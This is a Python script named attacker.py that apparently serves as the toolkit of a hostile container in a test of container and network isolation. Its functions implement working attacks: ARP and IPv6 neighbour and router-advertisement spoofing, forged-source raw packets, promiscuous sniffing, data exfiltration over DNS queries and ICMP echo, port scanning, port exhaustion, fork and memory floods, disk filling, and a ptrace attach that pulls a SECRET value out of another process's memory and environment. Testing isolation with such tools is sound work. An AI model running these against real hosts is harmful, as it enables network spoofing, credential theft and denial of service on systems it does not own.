"""The tools of a malicious container: attacker.py TOOL ARGUMENT ...; what it gets it prints. Errors are printed by their name.

A container that is taken over brings its own tools: nothing here needs more than Python and the container's own rights.
"""
import ctypes, errno, fcntl, os, resource, signal, socket, struct, sys, time

ETH_P_ALL = 3
PACKET_OUTGOING = 4
SOL_PACKET, PACKET_QDISC_BYPASS, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 20, 1, 1
IP_FREEBIND, IPV6_FREEBIND = 15, 78
KEY = 0x7001


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def resolved(host, port):
    return socket.getaddrinfo(host, int(port), flags=socket.AI_NUMERICHOST)[0][4]


def exchange(protocol, host, port, text="", patience=2.0, source=None):
    kind = socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM
    with socket.socket(family(host), kind) as sock:
        sock.settimeout(float(patience))
        if source:
            if ":" in host:
                sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
            else:
                sock.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
            sock.bind((source, 0))
        sock.connect(resolved(host, port))
        sock.send(text.encode())
        return sock.recv(512).decode("latin1")


def call(*args):
    print(exchange(*args))


def unix(name, text):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(2)
        sock.connect(name.replace("@", "\0", 1))
        sock.send(text.encode())
        print(sock.recv(512).decode())


def listen(protocol, host, port, seconds):
    """At a place that is another's, and prints what comes."""
    kind = socket.SOCK_STREAM if protocol == "tcp" else socket.SOCK_DGRAM
    with socket.socket(family(host), kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((host, int(port)))
        sock.settimeout(float(seconds))
        if protocol == "udp":
            while True:
                print(sock.recv(512).decode(), flush=True)
        sock.listen(8)
        while True:
            connection, _ = sock.accept()
            connection.settimeout(1)
            print(connection.recv(512).decode(), flush=True)


def listen_unix(name, seconds):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(float(seconds))
        sock.bind(name.replace("@", "\0", 1))
        sock.listen(8)
        print(sock.accept()[0].recv(512).decode(), flush=True)


def peers(device):
    """All addresses that those on this device may have: a SplitNetwork has 32 in a block."""
    found = []
    with open("/proc/net/if_inet6") as addresses:
        for line in addresses:
            number, _, _, scope, _, name = line.split()
            if name == device and scope == "00":
                found.append((socket.AF_INET6, int(number, 16).to_bytes(16, "big")))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            answer = fcntl.ioctl(sock, 0x8915, struct.pack("256s", device.encode()))  # SIOCGIFADDR
            found.append((socket.AF_INET, answer[20:24]))
        except OSError:
            pass
    return [
        socket.inet_ntop(kind, own[:-1] + bytes([own[-1] & 0xE0 | offset]))
        for kind, own in found
        for offset in range(32)
    ]


def knock(hosts):
    """At the ports that are not for this container, everywhere at once."""
    text, calls = b"I-was-first", []
    for host in hosts:
        with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
            sock.setblocking(False)
            try:
                sock.sendto(text, resolved(host, 7003))
            except OSError:
                pass
        calls.append(socket.socket(family(host), socket.SOCK_STREAM))
        calls[-1].setblocking(False)
        calls[-1].connect_ex(resolved(host, 7002))
    time.sleep(0.05)
    for sock in calls:
        with sock:
            try:
                sock.send(text)
            except OSError:
                pass


def race(pod_ips, device):
    """From the first instruction until 10 s after the app was reached at a port that is for this container too."""
    tries, reached, end = 0, None, time.monotonic() + 120
    while time.monotonic() < end:
        hosts = ["127.0.0.1", "127.0.0.2", "::1", *pod_ips.split(","), *peers(device)]
        knock(hosts)
        tries += 2 * len(hosts)
        if not reached:
            try:
                exchange("tcp", "127.0.0.1", 7000, "I-am-allowed", 0.3)
                reached, end = True, time.monotonic() + 10
            except OSError:
                pass
    with open("/scratch/raced", "w") as file:
        file.write(f"{tries} tries at {len(hosts)} addresses, {'reached' if reached else 'never reached'} the app\n")
    while True:
        time.sleep(3600)


def outcome(host, port):
    with socket.socket(family(host), socket.SOCK_STREAM) as sock:
        sock.settimeout(0.3)
        try:
            sock.connect((host, port))
            return "open"
        except OSError as error:
            return errno.errorcode.get(error.errno, "timeout")


def scan(host, first, last):
    """Ports that take connections."""
    for port in range(int(first), int(last) + 1):
        if outcome(host, port) == "open":
            print(f"open {port}")


def compare(host, open_port, closed_port):
    """Whether one can tell by the answer that somebody listens, without reaching him."""
    one, other = outcome(host, int(open_port)), outcome(host, int(closed_port))
    print(f"{'differ' if one != other else 'alike'}: {one}, {other}")


def index(device):
    return socket.if_nametoindex(device)


def sniff(device, seconds, text):
    """Whether this text passes."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as sock:
        sock.bind((device, ETH_P_ALL))
        member = struct.pack("iHH8s", index(device), PACKET_MR_PROMISC, 0, b"")
        sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, member)
        sock.settimeout(0.5)
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            try:
                data = sock.recv(65535)
            except TimeoutError:
                continue
            if text.encode() in data:
                print(f"heard {text}", flush=True)
                return


def send_frames(device, frames, bypass=False):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((device, 0))
        if bypass:
            sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
        for frame in frames:
            sock.send(frame)


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def own_mac(device):
    with open(f"/sys/class/net/{device}/address") as file:
        return mac(file.read().strip())


def ip(address):
    return socket.inet_pton(family(address), address)


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_packet(source, target, port, text):
    data = text.encode()
    header = struct.pack("!HHHH", 40000, int(port), 8 + len(data), 0)
    if ":" in source:
        pseudo = ip(source) + ip(target) + struct.pack("!II", 8 + len(data), 17)
        header = header[:6] + struct.pack("!H", checksum(pseudo + header + data))
        return struct.pack("!IHBB", 6 << 28, 8 + len(data), 17, 64) + ip(source) + ip(target) + header + data
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(data), 1, 0, 64, 17, 0, ip(source), ip(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + header + data


def frame(source_mac, target_mac, packet):
    kind = 0x86DD if packet[0] >> 4 == 6 else 0x0800
    return target_mac + source_mac + struct.pack("!H", kind) + packet


def udp_frame(device, from_mac, to_mac, source, target, port, text, *flags):
    """A datagram in somebody's name; from_mac `own`, or another's."""
    sender = own_mac(device) if from_mac == "own" else mac(from_mac)
    send_frames(device, [frame(sender, mac(to_mac), udp_packet(source, target, port, text))] * 3, "bypass" in flags)


def arp_reply(device, claimed, target, target_mac):
    own = own_mac(device)
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + ip(claimed) + mac(target_mac) + ip(target)
    send_frames(device, [mac(target_mac) + own + struct.pack("!H", 0x0806) + body] * 3)


def icmp6(source, target, kind, body):
    pseudo = ip(source) + ip(target) + struct.pack("!II", 4 + len(body), 58)
    head = struct.pack("!BBH", kind, 0, 0)
    head = struct.pack("!BBH", kind, 0, checksum(pseudo + head + body))
    return struct.pack("!IHBB", 6 << 28, 4 + len(body), 58, 255) + ip(source) + ip(target) + head + body


def advertise_neighbour(device, claimed, target, target_mac):
    own = own_mac(device)
    body = struct.pack("!I", 0x60000000) + ip(claimed) + b"\x02\x01" + own
    send_frames(device, [frame(own, mac(target_mac), icmp6(claimed, target, 136, body))] * 3)


def advertise_router(device, prefix):
    own = own_mac(device)
    option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + ip(prefix) + b"\x01\x01" + own
    body = struct.pack("!BBHII", 64, 0, 1800, 0, 0) + option
    source = "fe80::bad:1"
    everybody = mac("33:33:00:00:00:01")
    send_frames(device, [frame(own, everybody, icmp6(source, "ff02::1", 134, body))] * 3)


def raw_packet(source, target, port, text):
    """By a raw socket: the kernel routes it, and takes any source."""
    with socket.socket(family(source), socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.sendto(udp_packet(source, target, port, text), (target, 0))


def query(server, name):
    """A name that carries data. Any answer shows that it came to somebody."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    data = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
    with socket.socket(family(server), socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((server, 53))
        sock.send(data)
        print(f"answered with {len(sock.recv(4096))} bytes")


def echo(target, text):
    """Data in an echo request, by the socket that needs no capability."""
    six = ":" in target
    with socket.socket(family(target), socket.SOCK_DGRAM, 58 if six else 1) as sock:
        sock.settimeout(2)
        sock.connect((target, 0))
        sock.send(struct.pack("!BBHHH", 128 if six else 8, 0, 0, 0, 1) + text.encode())
        print(f"came back: {sock.recv(512)[8:].decode()}")


def flood(host, port, first, count):
    """A datagram from each of so many ports."""
    for source in range(int(first), int(first) + int(count)):
        with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                sock.bind(("", source))
                sock.sendto(b"?", (host, int(port)))
            except OSError:
                pass


def hold_ports(seconds):
    """All from which a program here may send datagrams, by as many processes as the limit of open files asks for."""
    with open("/proc/sys/net/ipv4/ip_local_port_range") as file:
        first, last = map(int, file.read().split())
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    reader, writer = os.pipe()
    share = min(limit - 100, 4000)
    starts = range(first, last + 1, share)
    for start in starts:
        if os.fork() == 0:
            held = bind_all(range(start, min(start + share, last + 1)))
            os.write(writer, struct.pack("!I", len(held)))
            time.sleep(float(seconds))
            os._exit(0)
    print(f"holds {sum(struct.unpack('!I', os.read(reader, 4))[0] for _ in starts)}", flush=True)
    time.sleep(float(seconds))


def bind_all(ports):
    held = []
    for port in ports:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            sock.bind(("0.0.0.0", port))
            held.append(sock)
        except OSError:
            sock.close()
    return held


def end(tool):
    """A tool of this container's that still runs, with its children."""
    os.killpg(os.getpgid(find(f"python3 /programs/attacker.py {tool}")), signal.SIGKILL)


def spin(processes, seconds):
    """Processor time that they got in all."""
    children = []
    for _ in range(int(processes)):
        child = os.fork()
        if child == 0:
            signal.alarm(int(seconds))
            while True:
                pass
        children.append(child)
    for child in children:
        os.waitpid(child, 0)
    used = os.times()
    print(f"took {used.children_user + used.children_system:.2f} s")


def hog(megabytes):
    block = bytearray(int(megabytes) << 20)
    for page in range(0, len(block), 4096):
        block[page] = 1
    with open("/proc/self/statm") as file:
        print(f"has {int(file.read().split()[1]) * 4096 >> 20} MiB")


def bound(what):
    """The limit of this container, as its cgroup has it (v2, else v1)."""
    files = {
        "cpu": ("cpu.max", "cpu/cpu.cfs_quota_us", "cpu,cpuacct/cpu.cfs_quota_us"),
        "memory": ("memory.max", "memory/memory.limit_in_bytes"),
    }
    for name in files[what]:
        if os.path.exists(f"/sys/fs/cgroup/{name}"):
            with open(f"/sys/fs/cgroup/{name}") as file:
                word = file.read().split()[0]
            # Version 1 writes a number for none: -1, or all that a counter of pages can say.
            print("unbounded" if word in ("max", "-1") or int(word) > 1 << 60 else f"bounded by {word}")
            return
    raise OSError(errno.ENOENT, "no cgroup")


def fork(count):
    """So many processes at once."""
    children = []
    try:
        for _ in range(int(count)):
            child = os.fork()
            if child == 0:
                time.sleep(30)
                os._exit(0)
            children.append(child)
    except OSError:
        pass
    print(f"runs {len(children)}")
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def fill(path):
    """A file system that has no room left."""
    written = 0
    try:
        with open(path, "wb") as file:
            while written < 4 << 30:
                written += file.write(bytes(1 << 20))
                file.flush()
    except OSError as error:
        print(f"full after {written >> 20} MiB: {errno.errorcode.get(error.errno)}")


def libc():
    return ctypes.CDLL(None, use_errno=True)


def check(result):
    if result is None or result in (-1, 2**64 - 1):
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def shared_memory():
    c = libc()
    c.shmat.restype = ctypes.c_void_p
    address = check(c.shmat(check(c.shmget(KEY, 0, 0)), None, 0o10000))  # SHM_RDONLY
    print(ctypes.string_at(address).decode())


def taint_memory(text):
    c = libc()
    c.shmat.restype = ctypes.c_void_p
    address = check(c.shmat(check(c.shmget(KEY, 0, 0)), None, 0))
    ctypes.memmove(address + 2048, text.encode() + b"\0", len(text) + 1)


def read_memory_at(offset):
    c = libc()
    c.shmat.restype = ctypes.c_void_p
    address = check(c.shmat(check(c.shmget(KEY, 0, 0)), None, 0o10000))
    print(ctypes.string_at(address + int(offset)).decode())


def message_queue():
    c = libc()
    buffer = ctypes.create_string_buffer(8 + 64)
    check(c.msgrcv(check(c.msgget(KEY, 0)), buffer, 64, 0, 0o4000))  # IPC_NOWAIT
    print(buffer.raw[8:].rstrip(b"\0").decode())


def posix_queue():
    c = libc()
    buffer = ctypes.create_string_buffer(8192)
    size = check(c.mq_receive(check(c.mq_open(b"/app-jobs", os.O_RDONLY | os.O_NONBLOCK)), buffer, 8192, None))
    print(buffer.raw[:size].decode())


def find(words):
    """The process whose command line begins with these words."""
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline") as file:
                    if file.read().replace("\0", " ").startswith(words):
                        return int(entry)
            except OSError:
                pass
    raise OSError(errno.ESRCH, "no such process")


def process(words):
    print(find(words))


def environment(words):
    with open(f"/proc/{find(words)}/environ") as file:
        print(file.read().replace("\0", "\n"))


def files_of(words, path):
    with open(f"/proc/{find(words)}/root{path}") as file:
        print(file.read())


def send_signal(words, number):
    os.kill(find(words), int(number))


def trace(words):
    """Stops it, reads its memory, and lets it go."""
    pid, c = find(words), libc()
    c.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    check(c.ptrace(16, pid, None, None))  # PTRACE_ATTACH
    os.waitpid(pid, 0)
    with open(f"/proc/{pid}/environ", "rb") as file:
        wanted = [each[7:] for each in file.read().split(b"\0") if each.startswith(b"SECRET=")][0]
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if "[heap]" in line or "[stack]" in line:
                start, end = (int(each, 16) for each in line.split()[0].split("-"))
                memory.seek(start)
                if wanted in memory.read(end - start):
                    print(f"its memory has {wanted.decode()}")
                    break
    c.ptrace(17, pid, None, None)  # PTRACE_DETACH


TOOLS = {
    name.replace("_", "-"): tool
    for name, tool in list(globals().items())
    if callable(tool) and getattr(tool, "__module__", None) == "__main__"
}

try:
    TOOLS[sys.argv[1]](*sys.argv[2:])
except TimeoutError:
    sys.exit("ETIMEDOUT")
except OSError as error:
    sys.exit(errno.errorcode.get(error.errno, str(error)))
